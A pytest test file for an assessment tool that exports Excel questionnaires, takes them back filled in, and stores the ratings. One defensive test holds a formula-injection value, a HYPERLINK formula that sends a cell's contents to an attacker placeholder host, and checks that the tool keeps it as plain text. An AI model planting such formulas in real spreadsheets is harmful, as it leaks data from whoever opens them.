"""The Excel round trip: export, fill in as a client would, import; and a corpus of bad workbooks."""

from __future__ import annotations

import json
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from dsm_assess.capture.intake import import_file
from dsm_assess.capture.workbook import FIRST_ROW, META
from dsm_assess.engagement.spec import engagement_dir
from dsm_assess.store.sqlite import open_store

from .conftest import PAT, SAM, export_book


@pytest.fixture
def sam_book(fw, acme, root, tmp_path) -> Path:
    return export_book(fw, acme, SAM, tmp_path / "out", root)


def fill(path: Path, cells: dict[tuple[str, str], object], out: Path | None = None) -> Path:
    """Type values into cells as a client would, e.g. {("PR.INC", "E4"): "F - Fully achieved"}."""
    wb = openpyxl.load_workbook(path)
    for (sheet, ref), value in cells.items():
        wb[sheet][ref] = value
    out = out or path.with_name(path.stem + "-filled.xlsx")
    wb.save(out)
    return out


def do_import(fw, eng, root, path):
    with open_store(engagement_dir(eng.slug, root), eng.slug) as store:
        return import_file(path, fw, eng, store, "workbook", root)


def current(root, slug="acme"):
    with open_store(engagement_dir(slug, root), slug) as store:
        return store.current_answers()


def test_workbook_layout(sam_book, fw, acme):
    wb = openpyxl.load_workbook(sam_book)
    assert wb.sheetnames == ["Instructions", "PR.INC", "PR.SDK", "PR.SRM", "Glossary", META]
    assert wb[META].sheet_state == "veryHidden"
    ws = wb["PR.INC"]
    ids = [ws.cell(r, 1).value for r in range(FIRST_ROW, ws.max_row + 1)]
    assert ids == [c for c in acme.criteria_for(fw, acme.respondent(SAM)) if c.startswith("PR.INC.")]
    assert ws.freeze_panes == "E4"
    assert ws.protection.sheet is True
    assert ws["A4"].protection.locked is True and ws["E4"].protection.locked is False
    assert ws["H4"].protection.locked is False
    rating, confidence = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert "F - Fully achieved" in rating.formula1 and "E4:E7" in str(rating.sqref)
    assert confidence.formula1 == '"1,2,3,4,5"' and "G4:G7" in str(confidence.sqref)
    assert wb.security.lockStructure
    instructions = " ".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
    assert "Acme Ltd" in instructions and "Sam Desk" in instructions and "N/A reason" in instructions


def test_round_trip_stores_what_was_filled(fw, acme, root, sam_book):
    filled = fill(sam_book, {
        ("PR.INC", "E4"): "F - Fully achieved", ("PR.INC", "G4"): 5, ("PR.INC", "H4"): "Tool screenshots",
        ("PR.INC", "E5"): "P - Partially achieved", ("PR.INC", "I5"): "Only for P1",
        ("PR.SDK", "E6"): "NA - Not applicable", ("PR.SDK", "F6"): "No desk: users call engineers",
        ("PR.SRM", "E7"): "DK - Don't know",
    })
    outcome = do_import(fw, acme, root, filled)
    assert outcome.outcome == "stored" and outcome.rows == 4 and outcome.notes == []
    got = current(root).set_index("criterion_id")
    assert got.loc["PR.INC.L2.01", ["rating", "confidence", "evidence"]].tolist() == ["F", 5, "Tool screenshots"]
    assert got.loc["PR.INC.L3.01", ["rating", "comment"]].tolist() == ["P", "Only for P1"]
    assert got.loc["PR.SDK.L4.04", ["rating", "na_reason"]].tolist() == ["NA", "No desk: users call engineers"]
    assert got.loc["PR.SRM.L5.05", "rating"] == "DK"
    assert set(got["respondent"]) == {SAM}
    with open_store(root / "acme") as store:
        history = store.history()
    assert set(history["bank_version"]) == {fw.bank_version} and set(history["source"]) == {"workbook"}


def test_obvious_variants_are_accepted_and_reported(fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): " Fully achieved ", ("PR.INC", "E5"): "l",
                             ("PR.INC", "E6"): "n/a", ("PR.INC", "F6"): "not ours", ("PR.INC", "E7"): "F"})
    outcome = do_import(fw, acme, root, filled)
    assert outcome.outcome == "stored"
    assert "sheet PR.INC, cell E4: ' Fully achieved ' read as F" in outcome.notes
    assert "sheet PR.INC, cell E5: 'l' read as L" in outcome.notes
    assert "sheet PR.INC, cell E6: 'n/a' read as NA" in outcome.notes
    assert len(outcome.notes) == 3  # "F" is exactly a code: nothing to say
    assert current(root).set_index("criterion_id")["rating"].to_dict() == {
        "PR.INC.L2.01": "F", "PR.INC.L3.01": "L", "PR.INC.L4.06": "NA", "PR.INC.L5.01": "F"}


def test_reimport_changes_nothing(fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): "F"})
    assert do_import(fw, acme, root, filled).outcome == "stored"
    copy = shutil.copy(filled, filled.with_name("renamed.xlsx"))
    again = do_import(fw, acme, root, Path(copy))
    assert again.outcome == "unchanged" and "nothing changed" in again.describe()
    with open_store(engagement_dir("acme", root)) as store:
        assert store.count("answers") == 1
        assert store.imports()["outcome"].tolist() == ["stored"]
    assert len(list((engagement_dir("acme", root) / "inbox").iterdir())) == 1


def test_received_file_kept_unchanged_in_inbox(fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): "F"})
    do_import(fw, acme, root, filled)
    [kept] = (engagement_dir("acme", root) / "inbox").iterdir()
    assert kept.read_bytes() == filled.read_bytes() and kept.name.endswith("-filled.xlsx")


def test_newer_file_supersedes_and_history_is_kept(fw, acme, root, sam_book, tmp_path):
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "E5"): "L"}))
    reminder = export_book(fw, acme, SAM, tmp_path / "reminder", root)  # a fresh questionnaire, sent again
    do_import(fw, acme, root, fill(reminder, {("PR.INC", "E4"): "P"}, tmp_path / "second.xlsx"))
    got = current(root).set_index("criterion_id")["rating"].to_dict()
    assert got == {"PR.INC.L2.01": "P", "PR.INC.L3.01": "L"}  # blank in a fresh questionnaire: not answered here
    with open_store(engagement_dir("acme", root)) as store:
        assert store.history("PR.INC.L2.01")["rating"].tolist() == ["F", "P"]


def test_a_rating_cleared_in_the_respondents_copy_withdraws_the_answer(cli, fw, acme, root, sam_book, tmp_path):
    first = fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "E5"): "L", ("PR.SDK", "E4"): "P"})
    assert do_import(fw, acme, root, first).outcome == "stored"
    edited = fill(first, {("PR.INC", "E5"): None, ("PR.SDK", "E4"): "L"}, tmp_path / "edited.xlsx")
    result = cli("questionnaire", "import", "acme", edited, "--root", root)
    assert result.exit_code == 0, result.output
    assert ("stored 2 answers from sam@acme.example.com; 1 new or changed; withdrawn: 1, PR.INC.L3.01"
            in result.stdout)
    assert current(root).set_index("criterion_id")["rating"].to_dict() == {"PR.INC.L2.01": "F", "PR.SDK.L2.06": "L"}
    status = json.loads(cli("status", "acme", "--json", "--root", root).stdout)["respondents"][0]
    assert (status["answered"], status["outstanding"]) == (2, 10)
    with open_store(engagement_dir("acme", root)) as store:
        history = store.history("PR.INC.L3.01")  # appended, never deleted
    assert history[["rating", "withdrawn"]].values.tolist() == [["L", 0], ["L", 1]]


def test_a_rating_prefilled_and_cleared_withdraws_and_one_blank_in_both_changes_nothing(cli, fw, acme, root,
                                                                                          sam_book, tmp_path):
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "E5"): "L"}))
    # A CSV answer the prefilled questionnaire does not know about yet: blank there, blank in the return.
    with open_store(engagement_dir("acme", root)) as store:
        prefill = store.current_answer_objects()[SAM]
    copy = export_book(fw, acme, SAM, tmp_path / "prefilled", root, prefill)
    csv = tmp_path / "late.csv"
    csv.write_text(f"respondent,criterion_id,rating\n{SAM},PR.SRM.L2.05,N\n", encoding="utf-8")
    assert cli("questionnaire", "import-csv", "acme", csv, "--root", root).exit_code == 0
    returned = fill(copy, {("PR.INC", "E4"): None, ("PR.SDK", "E5"): "F"}, tmp_path / "returned.xlsx")
    outcome = do_import(fw, acme, root, returned)
    assert outcome.withdrawn == ["PR.INC.L2.01"] and outcome.rows == 2
    assert current(root).set_index("criterion_id")["rating"].to_dict() == {
        "PR.INC.L3.01": "L", "PR.SDK.L3.04": "F", "PR.SRM.L2.05": "N"}


def test_a_withdrawn_answer_can_be_given_again(fw, acme, root, sam_book, tmp_path):
    first = fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "E5"): "L"})
    do_import(fw, acme, root, first)
    do_import(fw, acme, root, fill(first, {("PR.INC", "E5"): None}, tmp_path / "b.xlsx"))
    do_import(fw, acme, root, fill(first, {("PR.INC", "E5"): "P"}, tmp_path / "c.xlsx"))
    assert current(root).set_index("criterion_id")["rating"].to_dict() == {"PR.INC.L2.01": "F", "PR.INC.L3.01": "P"}


def test_an_unfilled_workbook_stores_nothing_and_says_whose_it_is(cli, fw, acme, root, sam_book):
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F"}))
    result = cli("questionnaire", "import", "acme", sam_book, "--root", root)  # the outbox copy, by mistake
    assert result.exit_code == 0
    assert result.stdout.startswith(f"{sam_book}: nothing to store: the workbook from Sam Desk <{SAM}> has no answers")
    with open_store(engagement_dir("acme", root)) as store:
        assert store.imports()["outcome"].tolist() == ["stored"] and store.count("answers") == 1
    assert len(list((engagement_dir("acme", root) / "inbox").iterdir())) == 1


def test_an_na_reason_on_a_row_not_rated_na_is_a_warning_and_kept_as_typed(cli, fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "F4"): "we outsource this"})
    result = cli("questionnaire", "import", "acme", filled, "--root", root)
    assert result.exit_code == 0
    assert ("warning: " in result.stderr and "sheet PR.INC, cell F4: PR.INC.L2.01 has an N/A reason but is rated F, "
            "not N/A" in result.stderr)
    assert current(root).set_index("criterion_id").loc["PR.INC.L2.01", "na_reason"] == "we outsource this"


def test_formula_like_text_is_stored_as_text_and_written_back_as_text(fw, acme, root, sam_book, tmp_path):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "H4"): evil,
                                              ("PR.INC", "E5"): "L", ("PR.INC", "I5"): "@SUM(1+1)"}))
    got = current(root).set_index("criterion_id")
    assert got.loc["PR.INC.L2.01", "evidence"] == evil and got.loc["PR.INC.L3.01", "comment"] == "@SUM(1+1)"
    from dsm_assess.store.answers import Answer

    prefill = {"PR.INC.L2.01": Answer(SAM, "PR.INC.L2.01", "F", evidence=evil)}
    again = export_book(fw, acme, SAM, tmp_path / "again", root, prefill)
    cell = openpyxl.load_workbook(again)["PR.INC"]["H4"]
    assert cell.value == evil and cell.data_type == "s"
    with zipfile.ZipFile(again) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) for n in sheets)


def test_prefill_from_cli(cli, fw, acme, root, sam_book, tmp_path):
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "L", ("PR.INC", "G4"): 3}))
    result = cli("questionnaire", "export", "acme", "--respondent", SAM, "--prefill", "--root", root,
                 "--out-dir", tmp_path / "re")
    assert result.exit_code == 0
    ws = openpyxl.load_workbook(result.stdout.strip())["PR.INC"]
    assert (ws["E4"].value, ws["G4"].value, ws["E5"].value) == ("L - Largely achieved", 3, None)


def test_export_writes_one_workbook_per_respondent_to_outbox(cli, acme, root):
    result = cli("questionnaire", "export", "acme", "--root", root)
    assert result.exit_code == 0
    paths = result.stdout.split()
    assert len(paths) == 2 and all(Path(p).parent == engagement_dir("acme", root) / "outbox" for p in paths)
    assert all(Path(p).exists() for p in paths)


def test_every_problem_of_a_file_is_reported_together(fw, acme, root, sam_book):
    bad = fill(sam_book, {("PR.INC", "E4"): "maybe", ("PR.INC", "G5"): "high", ("PR.SDK", "E4"): "NA",
                          ("PR.SRM", "A6"): "X.1", ("PR.INC", "E6"): "F"})
    outcome = do_import(fw, acme, root, bad)
    where = sorted(p.where for p in outcome.problems)
    assert where == ["sheet PR.INC, cell E4", "sheet PR.INC, cell G5", "sheet PR.SDK, cell F4",
                     "sheet PR.SRM", "sheet PR.SRM, cell A6"]
    assert current(root).empty  # the good F in E6 was not stored either: all or nothing


def test_cli_import_rejection_exits_3_without_traceback(cli, fw, acme, root, sam_book):
    bad = fill(sam_book, {("PR.INC", "E4"): "maybe"})
    good = fill(export_book(fw, acme, PAT, sam_book.parent, root), {("PR.ARC", "E4"): "L"},
                sam_book.parent / "pat.xlsx")
    result = cli("questionnaire", "import", "acme", bad, good, "--root", root)
    assert result.exit_code == 3
    assert "cell E4: rating 'maybe'" in result.stderr and "Traceback" not in result.output
    assert "pat.xlsx: stored 1 answers" in result.stdout
    assert "1 of 2 file(s) rejected" in result.stderr
    with open_store(engagement_dir("acme", root)) as store:
        assert store.imports()["outcome"].tolist() == ["rejected", "stored"]


def test_openpyxl_parses_with_defusedxml():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


CALC = shutil.which("soffice") and any(Path(d, "libsclo.so").exists() for d in (
    "/usr/lib/libreoffice/program", "/opt/libreoffice/program"))


@pytest.mark.skipif(not CALC, reason="LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
def test_a_workbook_saved_by_a_real_spreadsheet_application_still_imports(fw, acme, root, sam_book, tmp_path):
    import subprocess

    out = tmp_path / "resaved"
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
                    "--convert-to", "xlsx", "--outdir", str(out), str(sam_book)],
                   check=True, capture_output=True, timeout=180)
    resaved = out / sam_book.name
    if not resaved.exists():  # LibreOffice without its spreadsheet (Calc) cannot open the workbook at all
        pytest.skip("LibreOffice here cannot open .xlsx workbooks: Calc is not installed")
    wb = openpyxl.load_workbook(resaved)
    assert wb[META].sheet_state in ("hidden", "veryHidden") and wb["PR.INC"].protection.sheet
    filled = fill(resaved, {("PR.INC", "E4"): "L - Largely achieved", ("PR.SDK", "E5"): "P"})
    outcome = do_import(fw, acme, root, filled)
    assert outcome.outcome == "stored" and outcome.rows == 2, outcome.problems


def test_typed_ratings_are_accepted_and_reported_as_read(fw, acme, root, sam_book):
    typed = {("PR.INC", "E4"): "largely", ("PR.INC", "E5"): "Fully", ("PR.INC", "E6"): "mostly",
             ("PR.INC", "E7"): "partially", ("PR.SDK", "E4"): "not achieved", ("PR.SDK", "E5"): "n/a",
             ("PR.SDK", "F5"): "no desk", ("PR.SDK", "E6"): "dont know", ("PR.SDK", "E7"): "Yes, always",
             ("PR.SRM", "E4"): "Sometimes", ("PR.SRM", "E5"): "I don’t know"}
    outcome = do_import(fw, acme, root, fill(sam_book, typed))
    assert outcome.outcome == "stored", outcome.problems
    assert "sheet PR.INC, cell E4: 'largely' read as L" in outcome.notes and len(outcome.notes) == len(typed) - 1
    got = current(root).set_index("criterion_id")["rating"].to_dict()
    assert got == {"PR.INC.L2.01": "L", "PR.INC.L3.01": "F", "PR.INC.L4.06": "L", "PR.INC.L5.01": "P",
                   "PR.SDK.L2.06": "N", "PR.SDK.L3.04": "NA", "PR.SDK.L4.04": "DK", "PR.SDK.L5.01": "F",
                   "PR.SRM.L2.05": "P", "PR.SRM.L3.05": "DK"}


def test_every_word_the_instructions_sheet_offers_is_read_as_its_rating(fw, sam_book):
    from dsm_assess.store.answers import parse_rating, rating_lookup

    ws = openpyxl.load_workbook(sam_book)["Instructions"]
    offered = {row[0].value[:2].strip(): row[1].value for row in ws.iter_rows(min_col=1, max_col=2)
               if row[0].value and " - " in str(row[0].value)}
    assert set(offered) == {"F", "L", "P", "N", "NA", "DK"}
    lookup = rating_lookup(fw)
    for code, text in offered.items():
        plain, words = text.split(". You may also type: ")
        assert parse_rating(plain.split(" (achieved")[0], lookup, set())[0] == code
        for word in words.split(" / "):
            assert parse_rating(word, lookup, set()) == (code, True), word
    assert "largely" in offered["L"] and "mostly" in offered["L"].lower() and "n/a" in offered["NA"]


def test_a_printed_question_sheet_keeps_its_text_at_9_pt_or_more(sam_book):
    # Excel prints a column w characters wide as 7w + 5 pixels of Calibri 11 (0.75 pt each) and
    # scales the sheet down to fit the page width between the side margins.
    ws = openpyxl.load_workbook(sam_book)["PR.INC"]
    widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width for j in range(1, 10)]
    width_pt = sum((7 * w + 5) * 0.75 for w in widths)
    page_pt = 11.69 * 72 - (ws.page_margins.left + ws.page_margins.right) * 72  # A4 landscape
    assert (ws.page_setup.orientation, int(ws.page_setup.paperSize), ws.page_setup.fitToWidth,
            ws.page_setup.fitToHeight) == ("landscape", int(ws.PAPERSIZE_A4), 1, 0)
    assert 11 * min(1.0, page_pt / width_pt) >= 9
    assert all(ws.cell(4, j).alignment.wrap_text for j in range(1, 10))


@pytest.mark.parametrize("text", [
    "Policy doc v193\nsee SharePoint", "two\r\nlines and a lone\rreturn", "  spaces kept  ", "\ttab first",
    "=SUM(A1:A3)", "'=quoted already", "_x0041_ is not A", "_x005F_x0041_", "__x0041__x0042_",
    "line\u2028separator\u2029para", "next\x85line", "emoji 🙂 and ß", "-1", "+44 20 7946 0000", "@mention",
])
def test_text_comes_back_through_a_workbook_exactly_as_stored(fw, acme, root, tmp_path, text):
    from dsm_assess.capture.workbook import read_workbook
    from dsm_assess.store.answers import Answer

    prefill = {"PR.INC.L2.01": Answer(SAM, "PR.INC.L2.01", "F", evidence=text, comment=text)}
    book = export_book(fw, acme, SAM, tmp_path, root, prefill)
    [answer] = read_workbook(book, fw, acme).answers
    assert (answer.evidence, answer.comment) == (text, text)


def test_a_stored_text_no_workbook_can_hold_is_named_and_the_others_are_still_written(cli, fw, acme, root, tmp_path):
    from dsm_assess.store.answers import Answer

    with open_store(engagement_dir("acme", root)) as store:  # as an older version of the kit let it in
        store.record_answers([Answer(SAM, "PR.INC.L2.01", "F", evidence="a\x0bb")], bank_version="1.0.0", source="t")
    result = cli("questionnaire", "export", "acme", "--prefill", "--root", root, "--out-dir", tmp_path)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert (f"cannot write the questionnaire of {SAM}: the stored evidence of PR.INC.L2.01 contains U+000B "
            "(vertical tab)") in result.stderr
    assert [Path(p).name for p in result.stdout.split()] == ["acme-pat-ops.xlsx"]


def test_each_export_records_a_token_and_an_older_questionnaire_still_imports(fw, acme, root, tmp_path):
    from dsm_assess.formats.xlsxread import XlsxReader

    old = export_book(fw, acme, SAM, tmp_path / "first", root)
    new = export_book(fw, acme, SAM, tmp_path / "second", root)
    tokens = []
    for book in (old, new):
        with XlsxReader(book) as x:
            tokens.append(next(cells[2] for _, cells in x.rows(META) if cells[1] == "token"))
    assert tokens[0] != tokens[1]
    with open_store(engagement_dir("acme", root)) as store:
        holders = [store.token_holder(t) for t in tokens]
        assert store.count("questionnaires") == 2
    assert [(h["respondent"], h["subjects"], h["bank_version"]) for h in holders] == [
        (SAM, ["PR.INC", "PR.SDK", "PR.SRM"], fw.bank_version)] * 2
    assert do_import(fw, acme, root, fill(old, {("PR.INC", "E4"): "F"})).outcome == "stored"


def test_a_subject_given_after_the_questionnaire_was_sent_is_refused_on_it(fw, acme, root, sam_book, tmp_path):
    from dsm_assess.engagement.edit import save_engagement

    from .hostile import _sam_asks_arc

    acme.respondents[0].subjects.append("PR.ARC")  # Sam is asked PR.ARC now, but not in this questionnaire
    save_engagement(acme, root)
    wb = openpyxl.load_workbook(sam_book)
    _sam_asks_arc(wb)
    wb.save(tmp_path / "forged.xlsx")
    outcome = do_import(fw, acme, root, tmp_path / "forged.xlsx")
    assert outcome.outcome == "rejected"
    assert [(p.where, p.message) for p in outcome.problems] == [
        ("sheet PR.ARC", f"subject PR.ARC was not in the questionnaire sent to {SAM}")]


def test_import_without_files_reads_the_engagements_returned_folder(cli, fw, acme, root, sam_book):
    returned = engagement_dir("acme", root) / "returned"
    none = cli("questionnaire", "import", "acme", "--root", root)
    assert none.exit_code == 1 and "none in" in none.stderr and "returned/" in none.stderr
    assert returned.is_dir()  # made with the engagement, where the README says to save returned files
    fill(sam_book, {("PR.INC", "E4"): "F"}, returned / "sam.xlsx")
    result = cli("questionnaire", "import", "acme", "--root", root)
    assert result.exit_code == 0 and "sam.xlsx: stored 1 answers" in result.stdout


def test_the_rating_validation_lets_through_the_words_the_instructions_offer(sam_book, fw, acme, root):
    from dsm_assess.store.answers import rating_words
    wb = openpyxl.load_workbook(sam_book)
    rating = next(dv for dv in wb["PR.INC"].data_validations.dataValidation if "Fully" in dv.formula1)
    assert rating.errorStyle == "warning"   # Excel asks, and keeps a typed word; it never refuses it
    word = rating_words(fw)["L"][0]
    assert f'"{rating_words(fw)["N"][0]}"' in rating.error or "such as" in rating.error
    instructions = " ".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
    assert word in instructions
    # and the word typed comes in as the rating it names
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): word}))
    assert current(root)["rating"].tolist() == ["L"]
